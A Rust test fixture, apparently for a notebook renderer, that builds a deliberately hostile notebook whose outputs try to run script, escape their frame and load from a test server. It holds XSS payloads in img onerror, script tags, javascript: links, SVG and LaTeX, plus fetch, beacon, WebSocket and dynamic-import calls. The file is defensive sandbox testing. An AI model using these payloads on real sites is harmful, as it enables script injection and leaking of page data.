//! A notebook that tries to reach the page around it, and a server.

use hozon_cli::{Report, ReportCell, Status};
use serde_json::{Value, json};

use crate::kinds::{base64, code, display, markdown, numbered, ran, stream};

/// What is said to the page, if a script that should not run does.
const SCRIPT: &str = "top.document.title = 'reached'; parent.postMessage('reached', '*')";

pub(crate) fn report(address: &str) -> Report {
    let words = format!("\"><img src=x onerror=\"{SCRIPT}\"><script>{SCRIPT}</script>\u{202e}");
    let outputs: Vec<Value> = [documents(address), programs(address), escapes(address)].concat();
    let mut cells: Vec<ReportCell> =
        outputs.into_iter().map(|output| code(ran(0.1), &words, vec![output])).collect();
    cells.push(ReportCell {
        name: Some(words.clone()),
        why: vec![words.clone()],
        key: Some(words.clone()),
        outputs: vec![stream("stdout", &words), error(&words)],
        ..code(Status::Live { seconds: f64::NAN, why: words.clone() }, &words, vec![])
    });
    cells.push(markdown(&format!("# {words}\n\n![{words}]({address}/markdown.png)\n\n<img src=\"{address}/inline.png\">\n\n[x](javascript:{SCRIPT}) $\\href{{javascript:{SCRIPT}}}{{x}}$")));
    Report {
        title: words.clone(),
        file: words.clone(),
        made: words.clone(),
        notes: vec![words.clone()],
        cells: numbered(cells),
        ..Report::default()
    }
}

fn html(html: String) -> Value {
    display(json!({ "text/html": html }))
}

fn error(words: &str) -> Value {
    json!({ "output_type": "error", "ename": words, "evalue": words, "traceback": [words] })
}

/// Everything in a document that loads something, without a script.
fn documents(address: &str) -> Vec<Value> {
    [
        "<img src=\"{}/image.png\" srcset=\"{}/set.png 2x\">",
        "<link rel=\"preconnect\" href=\"{}\"><link rel=\"dns-prefetch\" href=\"{}\">",
        "<link rel=\"stylesheet\" href=\"{}/style.css\"><link rel=\"preload\" as=\"image\" href=\"{}/preload.png\">",
        "<link rel=\"prefetch\" href=\"{}/prefetch\"><link rel=\"prerender\" href=\"{}/prerender\"><link rel=\"icon\" href=\"{}/icon.png\"><link rel=\"modulepreload\" href=\"{}/module.js\"><link rel=\"manifest\" href=\"{}/manifest\">",
        "<style>@import url({}/import.css); @font-face { font-family: x; src: url({}/font.woff) } p { font-family: x; background: url({}/background.png) }</style><p>x</p>",
        "<meta http-equiv=\"refresh\" content=\"0; url={}/refresh\">",
        "<iframe src=\"{}/frame\"></iframe><object data=\"{}/object\"></object><embed src=\"{}/embed\">",
        "<iframe srcdoc=\"<img src='{}/nested.png'><meta http-equiv=refresh content='0; url={}/nested'>\"></iframe>",
        "<video src=\"{}/video\" poster=\"{}/poster.png\" autoplay></video><audio src=\"{}/audio\" autoplay></audio><picture><source srcset=\"{}/source.png\"><img></picture>",
        "<base href=\"{}/\"><img src=\"based.png\"><svg><image href=\"{}/svg.png\"/><use href=\"{}/use.svg#x\"/></svg><table background=\"{}/table.png\"><tr><td>x</table>",
        "<body background=\"{}/body.png\" onload=\"fetch('{}/onload')\"><form action=\"{}/form\"><input autofocus onfocus=\"this.form.submit()\"></form>",
        "<script type=\"speculationrules\">{\"prerender\": [{\"urls\": [\"{}/speculation\"]}], \"prefetch\": [{\"urls\": [\"{}/speculated\"]}]}</script>",
    ]
    .into_iter()
    .map(|template| html(template.replace("{}", address)))
    .collect()
}

/// Scripts that can be run, as they load nothing that can be told from their text. What no policy can hinder
/// is not tried: to lead a frame elsewhere (Chromium connects before it asks the policy), and WebRTC.
fn programs(address: &str) -> Vec<Value> {
    let reaching = "for (const act of [() => { parent.document.title = 'reached' }, () => { top.location = 'about:blank' }, () => { parent.reached = 1 },\n\
        () => { localStorage.x = 1 }, () => { document.cookie = 'x=1' }, () => { parent.frames[0].document.body.remove() }, () => { open('about:blank') },\n\
        () => { alert(1) }, () => parent.postMessage('reached', '*'), () => parent.postMessage({ frameHeight: 1e9 }, '*'), () => parent.postMessage({ frameHeight: '1; x' }, '*')]) { try { act() } catch {} }\n\
        document.body.append('ran in its frame')";
    let loading = "const at = ADDRESS; for (const act of [() => fetch(at + '/fetch'), () => navigator.sendBeacon(at + '/beacon'), () => new WebSocket(at.replace('http', 'ws')),\n\
        () => new EventSource(at + '/events'), () => { new Image().src = at + '/made.png' }, () => open(at + '/open'),\n\
        () => new Worker(URL.createObjectURL(new Blob([`fetch('${at}/worker')`]))), () => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: at })),\n\
        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: at + '/made' })),\n\
        () => { const form = document.body.appendChild(document.createElement('form')); form.action = at + '/made-form'; form.submit() },\n\
        () => new Function(`return impo${'rt'}(\"${at}/import.js\")`)(), () => new WebTransport(at.replace('http:', 'https:'))]) { try { Promise.resolve(act()).catch(() => {}) } catch {} }\n\
        document.body.append('tried everything')";
    let loading = loading.replace("ADDRESS", &json!(address).to_string());
    vec![
        html(format!("<script>{reaching}</script>")),
        html(format!("<p>loads</p><script>{loading}</script>")),
    ]
}

/// Attempts to get out of where a text stands.
fn escapes(address: &str) -> Vec<Value> {
    let drawing = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{SCRIPT}\"><script>{SCRIPT}</script><image href=\"{address}/drawn.png\"/><foreignObject><iframe src=\"{address}/drawn\"/></foreignObject></svg>"
    );
    vec![
        html(format!("\"></iframe><script>{SCRIPT}</script>")),
        html(format!("<!--\"></iframe>--><svg><script>{SCRIPT}</script></svg>")),
        html(
            "<div style=\"position:fixed;inset:0;z-index:9999;background:red\">over the page</div>"
                .to_owned(),
        ),
        html(format!("<a href=\"{address}/link\" target=\"_top\">a link</a><b onclick=\"{SCRIPT}\">b</b>")),
        display(json!({ "image/svg+xml": drawing })),
        display(json!({ "image/png": format!("\"><script>{SCRIPT}</script>") })),
        display(json!({ "image/png;\" onerror=\"x": base64(b"x") })),
        display(json!({ "application/javascript": SCRIPT, "text/plain": "a script" })),
        display(
            json!({ "application/json": { format!("<script>{SCRIPT}</script>"): format!("</script><script>{SCRIPT}") } }),
        ),
        display(json!({ "text/latex": format!("\\text{{<img src=x onerror={SCRIPT}>}}") })),
        display(
            json!({ "text/markdown": format!("<iframe src=\"{address}/shown\"></iframe><script>{SCRIPT}</script>") }),
        ),
        stream("stdout", "\u{1b}]8;;javascript:alert(1)\u{7}<b>\u{1b}[31m</pre><script>alert(1)</script>"),
    ]
}
